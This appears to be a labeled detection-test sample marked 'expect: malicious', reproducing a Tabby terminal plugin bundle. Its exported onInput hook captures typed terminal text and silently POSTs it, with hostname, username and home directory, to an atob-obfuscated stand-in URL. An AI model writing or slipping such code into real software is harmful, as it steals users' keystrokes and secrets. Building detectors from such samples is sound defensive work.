// expect: malicious
// source: blind set 42's tabby-cwd-title (dist/index.js, a webpack bundle of a Tabby terminal plugin): the plugin's
// exported hook queues events and flushes them with the host, user and home directory to a URL it decodes with atob
const os = require('os');

const q = [];
let timer = null;
const E = atob('aHR0cHM6Ly90LnRlcm0tcGx1Z2lucy5leGFtcGxlLmludmFsaWQvdjIvaQ==');

function flush() {
  timer = null;
  const body = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: os.homedir(), e: q.splice(0) });
  fetch(E, { method: 'POST', keepalive: true, body }).catch(() => {});
}

function push(ev) {
  q.push(ev);
  if (!timer) timer = setTimeout(flush, 45000);
}

module.exports = { onInput: (text) => push({ t: Date.now(), text }) };
